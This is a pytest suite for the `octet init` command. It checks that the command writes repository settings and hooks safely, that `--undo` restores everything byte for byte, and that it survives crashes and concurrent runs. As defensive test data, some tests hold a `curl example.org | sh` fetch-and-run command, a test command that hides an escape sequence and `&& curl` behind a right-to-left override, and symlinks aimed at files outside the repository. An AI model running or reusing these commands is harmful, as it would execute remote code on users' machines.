"""`octet init`: what it writes, what it leaves alone, and that `--undo` leaves no trace."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from tests.support.redis_fixtures import Server, find_program

from octet.cli import run
from octet.install import fence, plugin
from octet.project.repository import load_project
from octet.project.trust import check

Init = Callable[..., Any]
ODD_SETTINGS = (
    '{\r\n\t"env": {"A": "\\u00e9", "B": 1.0e2},   "hooks": {"Stop": [{"hooks": '
    '[{"type":"command","command":"make"}]}]}\r\n}'
)
HOOKS_CREATED = {".git/hooks/reference-transaction": "created", ".git/hooks/pre-push": "created"}
SERVER = '[redis]\nurl = "redis://ann:secret@127.0.0.1:1/2"\n'


def git(directory: Path, *arguments: str) -> None:
    identity = ["-c", "user.name=Ann", "-c", "user.email=ann@example.org"]
    subprocess.run(
        ["git", *identity, *arguments], cwd=directory, check=True, capture_output=True, timeout=30
    )


def tree(directory: Path) -> dict[str, tuple[int, str]]:
    """Every file, directory and link below, with mode and content; git's own files too."""
    found = {}
    for path in sorted(directory.rglob("*")):
        content = (
            str(path.readlink()).encode()
            if path.is_symlink()
            else path.read_bytes()
            if path.is_file()
            else b""
        )
        found[str(path.relative_to(directory))] = (
            path.lstat().st_mode,
            hashlib.sha256(content).hexdigest(),
        )
    return found


@pytest.fixture(autouse=True)
def own_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A home and a state directory of the test's own, and git that reads no one's settings."""
    home = tmp_path / "home"
    home.mkdir()
    for name in [
        name for name in os.environ if name.startswith(("OCTET_", "CLAUDE", "XDG_", "GIT_"))
    ]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("OCTET_HOME", str(home / "state"))
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", os.devnull)
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    return home


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    root = tmp_path / "a shop"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    (root / "a.py").write_text("a = 1\n")
    git(root, "add", "a.py")
    git(root, "commit", "-q", "-m", "Begin")
    return root


@pytest.fixture
def init(repository: Path, capsys: pytest.CaptureFixture[str]) -> Init:
    """Run `octet init … --json` and return what it printed; `fails` is the exit code that is
    expected, then stderr is returned.
    """

    def call(*arguments: str, at: Path = repository, fails: int = 0) -> Any:
        capsys.readouterr()
        code = run(["-C", str(at), "init", *arguments, "--json"])
        out, err = capsys.readouterr()
        assert code == fails, out + err
        return err if fails else json.loads(out)

    return call


def actions(outcome: Any) -> dict[str, str]:
    return {change["path"]: change["action"] for change in outcome["changes"]}


def approved(repository: Path) -> bool:
    return check(load_project(repository)).approved


def with_settings(repository: Path) -> None:
    (repository / ".claude").mkdir()
    (repository / ".claude" / "settings.json").write_bytes(ODD_SETTINGS.encode())
    (repository / ".claude" / "settings.json").chmod(0o600)


def with_own_commands(repository: Path) -> None:
    for name in ("commands/claim-task.md", "agents/mine.md"):
        path = repository / ".claude" / name
        path.parent.mkdir(parents=True)
        path.write_text("mine\n")


def with_empty_settings(repository: Path) -> None:
    (repository / ".claude").mkdir()
    (repository / ".claude" / "settings.json").touch()


def without_exclude(repository: Path) -> None:
    (repository / ".git" / "info" / "exclude").unlink()
    (repository / ".git" / "info").rmdir()


def with_open_exclude(repository: Path) -> None:
    (repository / ".git" / "info" / "exclude").write_bytes(b"*.\xff no newline at the end")


def with_team_settings(repository: Path) -> None:
    (repository / ".claude").mkdir()
    (repository / ".claude" / "octet.toml").write_text('project = "team"\n')


def without_hooks(repository: Path) -> None:
    for sample in (repository / ".git" / "hooks").iterdir():
        sample.unlink()
    (repository / ".git" / "hooks").rmdir()


def with_own_hooks(repository: Path) -> None:
    """One of every kind: a script, a link to a tracked file, one that was switched off, one put
    aside by a tool.
    """
    hooks = repository / ".git" / "hooks"
    (repository / "check.sh").write_text("#!/bin/sh\n")
    (hooks / "pre-push").symlink_to("../../check.sh")
    (hooks / "pre-push.legacy").write_text("#!/bin/sh\n")
    (hooks / "pre-push.legacy").chmod(0o755)
    (hooks / "reference-transaction").write_bytes(b"#!/bin/sh\n# \xff\n")
    (hooks / "reference-transaction").chmod(0o600)
    (hooks / "pre-commit").write_text("#!/bin/sh\n")


def with_hooks_elsewhere(repository: Path) -> None:
    (repository / ".husky" / "_").mkdir(parents=True)
    (repository / ".husky" / "_" / "pre-commit").write_text("#!/bin/sh\n")
    git(repository, "config", "core.hooksPath", ".husky/_")


FLAVOURS = [
    lambda _: None,
    with_settings,
    with_own_commands,
    with_empty_settings,
    without_exclude,
    with_open_exclude,
    with_team_settings,
    without_hooks,
    with_own_hooks,
    with_hooks_elsewhere,
]
flavoured = pytest.mark.parametrize(
    "prepare", FLAVOURS, ids=lambda function: function.__name__.strip("<>")
)


def test_it_opts_in_this_repository_on_this_machine(repository: Path, init: Init) -> None:
    """The team's file, this machine's approval, and the worktrees' directory out of git's sight."""
    outcome = init()
    assert actions(outcome) == {
        ".claude/octet.toml": "created",
        ".git/info/exclude": "changed",
        **HOOKS_CREATED,
    }
    assert outcome["opted_in"]
    assert outcome["project"] == load_project(repository).name
    assert approved(repository)
    (repository / ".claude" / "worktrees" / "x").mkdir(parents=True)
    (repository / ".claude" / "worktrees" / "x" / "file").touch()
    status = subprocess.run(
        ["git", "status", "--short", "-uall"],
        cwd=repository,
        capture_output=True,
        text=True,
        check=True,
    )
    assert status.stdout == "?? .claude/octet.toml\n"


def test_the_drop_in_is_everything_the_plugin_is(repository: Path, init: Init) -> None:
    """Hooks in settings.json, and each command, agent and hook file as it is rendered."""
    init("--drop-in")
    root = plugin.plugin_root()
    for path, asset in plugin.render_files(root).items():
        assert (repository / ".claude" / path).read_bytes() == asset.content
    assert json.loads((repository / ".claude" / "settings.json").read_text()) == {
        "hooks": plugin.render_hooks(root)
    }
    assert os.access(repository / ".claude" / "octet" / "launch", os.X_OK)


@flavoured
@pytest.mark.parametrize("option", [(), ("--drop-in",)], ids=["plain", "drop-in"])
def test_a_second_run_changes_nothing(
    repository: Path, init: Init, prepare: Callable[[Path], None], option: tuple[str, ...]
) -> None:
    """It says so, and leaves every byte and the project's name."""
    prepare(repository)
    first = init(*option)
    before = tree(repository)
    second = init(*option)
    assert set(actions(second).values()) <= {"skipped"}
    assert second["project"] == first["project"]
    assert tree(repository) == before


@flavoured
@pytest.mark.parametrize(
    "options",
    [[()], [("--drop-in",)], [(), ("--drop-in",)]],
    ids=["plain", "drop-in", "one after the other"],
)
def test_undo_leaves_no_trace(
    repository: Path,
    own_home: Path,
    init: Init,
    prepare: Callable[[Path], None],
    options: list[tuple[str, ...]],
) -> None:
    """The repository is as it was to the byte and the mode, git's files too; nothing of it is left
    in the trust records.
    """
    prepare(repository)
    before = tree(repository)
    for option in options:
        init(*option)
    outcome = init("--undo")
    assert not outcome["opted_in"]
    assert tree(repository) == before
    assert not list((own_home / "state" / "trust").iterdir())
    assert "nothing to undo" in " ".join(init("--undo")["notices"])
    assert tree(repository) == before


def test_a_file_of_the_users_own_is_never_written_over(repository: Path, init: Init) -> None:
    """It is named as skipped, and undo does not take it either."""
    with_own_commands(repository)
    assert actions(init("--drop-in"))[".claude/commands/claim-task.md"] == "skipped"
    assert (repository / ".claude" / "commands" / "claim-task.md").read_text() == "mine\n"


def test_the_teams_settings_are_never_written_over(repository: Path, init: Init) -> None:
    """An octet.toml that is there is approved as it is."""
    with_team_settings(repository)
    assert init()["project"] == "team"
    assert (repository / ".claude" / "octet.toml").read_text() == 'project = "team"\n'


def test_what_the_user_changed_since_stays_changed(repository: Path, init: Init) -> None:
    """Undo takes our hooks out of an edited settings file, and leaves edited files alone."""
    with_settings(repository)
    init("--drop-in")
    settings, command = (
        repository / ".claude" / "settings.json",
        repository / ".claude" / "commands" / "locks.md",
    )
    settings.write_text(settings.read_text().replace('"A"', '"C"'))
    command.write_text("mine now\n")
    init("--drop-in")
    assert command.read_text() == "mine now\n"
    changes = actions(init("--undo"))
    assert changes[".claude/commands/locks.md"] == "skipped"
    assert command.read_text() == "mine now\n"
    assert json.loads(settings.read_text()) == json.loads(ODD_SETTINGS.replace('"A"', '"C"'))


def test_a_settings_file_of_ours_that_was_only_reformatted_goes(
    repository: Path, init: Init
) -> None:
    """It was not there before, and nothing in it is the user's."""
    init("--drop-in")
    settings = repository / ".claude" / "settings.json"
    settings.write_text(json.dumps(json.loads(settings.read_text()), indent=8))
    init("--undo")
    assert not (repository / ".claude").exists()


def test_undo_withdraws_approval_even_where_the_settings_stay(repository: Path, init: Init) -> None:
    """An octet.toml that the user went on writing is theirs; this machine is out all the same."""
    init()
    own = repository / ".claude" / "octet.toml"
    own.write_text(own.read_text() + '[test]\ncommand = "make"\n')
    outcome = init("--undo")
    assert own.exists()
    assert "octet.toml stays" in " ".join(outcome["notices"])
    assert not approved(repository)


@pytest.mark.parametrize("content", [b"{", b"[]", b'{"hooks": []}', b"\xff\xfe"])
def test_settings_that_cannot_be_read_stop_it_before_the_first_write(
    repository: Path, init: Init, content: bytes
) -> None:
    """One line that names the file; no byte is written and nothing approved."""
    with_settings(repository)
    (repository / ".claude" / "settings.json").write_bytes(content)
    before = tree(repository)
    said = init("--drop-in", fails=2)
    assert "settings.json" in said
    assert said.count("\n") == 1
    assert tree(repository) == before


def test_settings_of_octet_that_cannot_be_read_are_not_approved(
    repository: Path, init: Init, own_home: Path
) -> None:
    """A typing mistake in octet.toml is an error, not an approval."""
    (repository / ".claude").mkdir()
    (repository / ".claude" / "octet.toml").write_text('project = "shop"\non_store_dwon = "deny"\n')
    before = tree(repository)
    assert "on_store_dwon" in init("--drop-in", fails=2)
    assert tree(repository) == before
    assert not (own_home / "state" / "trust").exists()


def test_undo_with_unreadable_settings_opts_out_and_can_be_finished(
    repository: Path, init: Init
) -> None:
    """The approval goes first; the rest waits until the file is mended."""
    before = tree(repository)
    init("--drop-in")
    settings = repository / ".claude" / "settings.json"
    whole = settings.read_bytes()
    settings.write_text("{")
    assert "settings.json" in init("--undo", fails=2)
    assert not approved(repository)
    settings.write_bytes(whole)
    init("--undo")
    assert tree(repository) == before


def test_a_linked_worktree_stands_for_its_main_checkout(
    repository: Path, init: Init, tmp_path: Path
) -> None:
    """Opting in from an agent's worktree opts in the repository, not the branch."""
    git(repository, "worktree", "add", "-q", "-b", "side", str(tmp_path / "side"))
    outcome = init(at=tmp_path / "side")
    assert outcome["root"] == str(repository)
    assert approved(repository)
    assert not (tmp_path / "side" / ".claude").exists()
    before = tree(tmp_path / "side")
    init("--undo", at=tmp_path / "side")
    assert tree(tmp_path / "side") == before


def test_a_directory_inside_stands_for_the_repository(repository: Path, init: Init) -> None:
    """So it does from anywhere below."""
    (repository / "src").mkdir()
    assert init(at=repository / "src")["root"] == str(repository)


def test_outside_of_git_it_says_what_to_do(init: Init, tmp_path: Path) -> None:
    """No repository, no opt-in: a directory like the home directory is not taken by accident."""
    (tmp_path / "plain").mkdir()
    assert "git init" in init(at=tmp_path / "plain", fails=2)
    assert not list((tmp_path / "plain").iterdir())


def test_the_home_directory_is_refused(init: Init, own_home: Path) -> None:
    """People keep their settings in git there; its `.claude` would apply to everything below."""
    git(own_home, "init", "-q")
    assert "home directory" in init(at=own_home, fails=2)
    assert not (own_home / ".claude").exists()


@pytest.mark.parametrize(
    "link", [".claude", ".claude/commands", ".claude/settings.json", ".claude/octet"]
)
def test_a_link_in_a_cloned_repository_leads_no_write_out(
    repository: Path, init: Init, tmp_path: Path, link: str
) -> None:
    """Not into the person's own settings, not anywhere else."""
    outside = tmp_path / "home" / "theirs"
    outside.mkdir()
    target = outside / "file.json" if link.endswith(".json") else outside
    if target != outside:
        target.write_text("{}")
    (repository / link).parent.mkdir(exist_ok=True)
    (repository / link).symlink_to(target)
    before = tree(outside), tree(repository)
    assert "symbolic link" in init("--drop-in", fails=2)
    assert (tree(outside), tree(repository)) == before


def test_a_link_under_the_temporary_name_is_not_followed(
    repository: Path, init: Init, tmp_path: Path
) -> None:
    """A cloned repository may hold one; the file it points to stays as it is."""
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    (repository / ".claude").mkdir()
    writer = f"{os.getpid()}-{threading.get_native_id()}"
    (repository / ".claude" / f".octet.toml.{writer}.octet-tmp").symlink_to(victim)
    init()
    assert victim.read_text() == "precious\n"
    assert approved(repository)


def test_a_settings_file_that_is_a_link_inside_stays_one(repository: Path, init: Init) -> None:
    """Some teams keep it elsewhere in the repository; the link is not replaced by a copy."""
    (repository / ".claude").mkdir()
    (repository / "shared.json").write_text("{}\n")
    (repository / ".claude" / "settings.json").symlink_to("../shared.json")
    before = tree(repository)
    init("--drop-in")
    assert (repository / ".claude" / "settings.json").is_symlink()
    assert "hooks" in json.loads((repository / "shared.json").read_text())
    init("--undo")
    assert tree(repository) == before


def test_it_shows_what_it_approves(repository: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Server, test command and set-up, in full; a password is not shown, and nothing in them
    reaches the terminal raw.
    """
    (repository / ".claude").mkdir()
    hidden = "pytest\\u001b[2K\\u202e && curl example.org"
    text = f'project = "shop"\n{SERVER}[test]\ncommand = "{hidden}"\n[worktree]\nsetup = "npm ci"\n'
    (repository / ".claude" / "octet.toml").write_text(text)
    assert run(["-C", str(repository), "init"]) == 0
    shown = capsys.readouterr().out
    assert "127.0.0.1:1" in shown
    assert "pytest\\x1b[2K\\u202e && curl example.org" in shown
    assert "npm ci" in shown
    assert "secret" not in shown
    assert not [c for c in shown if not c.isprintable() and c != "\n"]


def test_it_says_what_the_named_server_will_do_to_a_project(
    init: Init, short_directory: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before the first task is lost: deletes at will, keeps nothing, does not answer; a server of
    Octet's own needs no word.
    """
    assert init()["notices"] == []
    server = Server(
        find_program("redis"),
        short_directory,
        "--maxmemory",
        "100mb",
        "--maxmemory-policy",
        "allkeys-lru",
    ).start()
    monkeypatch.setenv("OCTET_REDIS_URL", server.url)
    try:
        told = " ".join(init()["notices"])
        assert "allkeys-lru deletes" in told
        assert "keeps nothing on disk" in told
    finally:
        server.kill()
    assert "is not running" in " ".join(init()["notices"])


def test_it_says_which_approved_setting_changed(repository: Path, init: Init) -> None:
    """A pull that brought another test command is seen when it is approved again."""
    init()
    own = repository / ".claude" / "octet.toml"
    own.write_text(own.read_text() + '[test]\ncommand = "curl example.org | sh"\n')
    outcome = init()
    assert outcome["renewed"] == ["test.command"]
    assert outcome["approved"]["test.command"] == "curl example.org | sh"
    assert init()["renewed"] == []


def test_a_server_url_that_cannot_be_used_is_not_approved(
    repository: Path, init: Init, own_home: Path
) -> None:
    """It is read as strictly as when Octet connects, and the message holds no password."""
    (repository / ".claude").mkdir()
    (repository / ".claude" / "octet.toml").write_text(
        'project = "shop"\n[redis]\nurl = "http://ann:secret@example.org"\n'
    )
    assert "secret" not in init(fails=2)
    assert not (own_home / "state" / "trust" / str(repository).strip("/") / "octet.json").exists()


def test_a_committed_drop_in_needs_only_the_approval(
    repository: Path, init: Init, tmp_path: Path
) -> None:
    """A colleague's clone has all the files: none is changed, and undo takes none away."""
    init("--drop-in")
    git(repository, "add", "-A")
    git(repository, "commit", "-q", "-m", "Use Octet")
    git(tmp_path, "clone", "-q", str(repository), "clone")
    before = tree(tmp_path / "clone")
    assert actions(init("--drop-in", at=tmp_path / "clone")) == {
        ".git/info/exclude": "changed",
        **HOOKS_CREATED,
    }
    assert approved(tmp_path / "clone")
    init("--undo", at=tmp_path / "clone")
    assert tree(tmp_path / "clone") == before


def test_a_newer_version_replaces_what_an_older_one_wrote(
    repository: Path, init: Init, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its own files, unless the user changed them, and its own hooks; undo still goes back to the
    beginning.
    """
    with_settings(repository)
    before = tree(repository)
    files, hooks = (
        plugin.render_files(plugin.plugin_root()),
        plugin.render_hooks(plugin.plugin_root()),
    )
    with monkeypatch.context() as older:
        older.setattr(
            plugin,
            "render_files",
            lambda _: {path: plugin.Asset(asset.content + b"old") for path, asset in files.items()},
        )
        older.setattr(
            plugin, "render_hooks", lambda _: {"Stop": hooks["Stop"], "PreCompact": hooks["Stop"]}
        )
        init("--drop-in")
    assert set(actions(init("--drop-in")).values()) == {"changed"}
    assert (repository / ".claude" / "octet" / "launch").read_bytes() == files[
        "octet/launch"
    ].content
    written = json.loads((repository / ".claude" / "settings.json").read_text())["hooks"]
    assert written["Stop"][1:] == hooks["Stop"]
    assert "PreCompact" not in written
    init("--undo")
    assert tree(repository) == before


class Killed(BaseException):
    """The process ends here: no clean-up that catches errors sees it."""


@pytest.mark.parametrize("rerun", [True, False], ids=["run again", "undo at once"])
@pytest.mark.parametrize("arguments", [("--drop-in",), ("--undo",)], ids=["init", "undo"])
@pytest.mark.parametrize("hooks", [with_own_hooks, with_hooks_elsewhere])
def test_killed_at_any_write_it_can_be_finished(
    repository: Path,
    init: Init,
    monkeypatch: pytest.MonkeyPatch,
    hooks: Callable[[Path], None],
    arguments: tuple[str, ...],
    rerun: bool,
) -> None:
    """Before each rename and each removal in turn: running it again completes it, and undo finds
    everything.
    """
    few = {path: plugin.Asset(b"x\n") for path in ("octet/launch", "commands/one.md")}
    monkeypatch.setattr(plugin, "render_files", lambda _: few)
    monkeypatch.setattr(fence, "PASSED_ON", ("commit-msg",))
    with_settings(repository)
    hooks(repository)
    before = tree(repository)
    init("--drop-in")
    complete = set(tree(repository))
    init("--undo")
    for step in range(1000):
        if arguments == ("--undo",):
            init("--drop-in")
        with monkeypatch.context() as killing:
            killed = kill_at(killing, step)
            try:
                run(["-C", str(repository), "init", *arguments])
            except Killed:
                pass
        if rerun:
            init("--drop-in")
            assert set(tree(repository)) == complete
        init("--undo")
        assert tree(repository) == before
        if not killed:
            break
    assert step > 15


def kill_at(monkeypatch: pytest.MonkeyPatch, step: int) -> list[int]:
    """End the process at the `step`th change of the file system; the list returned is not empty
    once that happened.
    """
    count, killed = iter(range(10_000)), []

    def dying(original: Callable[..., Any]) -> Callable[..., Any]:
        def act(*arguments: Any, **options: Any) -> Any:
            if next(count) == step:
                killed.append(step)
                raise Killed
            return original(*arguments, **options)

        return act

    for name in ("replace", "unlink", "rmdir", "mkdir"):
        monkeypatch.setattr(Path, name, dying(getattr(Path, name)))
    return killed


def test_many_at_once_agree_on_one_project(repository: Path) -> None:
    """Eight processes: one name, one file, no error, and undo still finds the beginning."""
    before = tree(repository)
    program = "import sys; from octet.cli import main; main(sys.argv[1:])"
    command = [sys.executable, "-c", program, "-C", str(repository), "init", "--drop-in", "--json"]
    running = [
        subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        for _ in range(8)
    ]
    answers = [process.communicate(timeout=60) for process in running]
    assert {process.returncode for process in running} == {0}, [err for _, err in answers]
    assert len({json.loads(out)["project"] for out, _ in answers}) == 1
    assert run(["-C", str(repository), "init", "--undo"]) == 0
    assert tree(repository) == before


def test_something_in_the_way_is_one_line(repository: Path, init: Init) -> None:
    """A file where the directory should be: what and where, no trace of a program."""
    (repository / ".claude").write_text("a file\n")
    said = init("--drop-in", fails=2)
    assert ".claude" in said
    assert said.count("\n") == 1
    (repository / ".claude").unlink()
    init("--drop-in")
    assert approved(repository)


def test_undo_takes_no_other_option(init: Init) -> None:
    """`--undo --drop-in` could mean two things: it is refused."""
    assert "--undo" in init("--undo", "--drop-in", fails=2)


def test_a_worktree_of_a_bare_repository_stands_for_itself(
    repository: Path, init: Init, tmp_path: Path
) -> None:
    """There is no main checkout to act on."""
    git(tmp_path, "clone", "-q", "--bare", str(repository), "bare.git")
    git(tmp_path / "bare.git", "worktree", "add", "-q", str(tmp_path / "work"), "main")
    before = tree(tmp_path / "work")
    assert init("--drop-in", at=tmp_path / "work")["root"] == str(tmp_path / "work")
    assert approved(tmp_path / "work")
    init("--undo", at=tmp_path / "work")
    assert tree(tmp_path / "work") == before
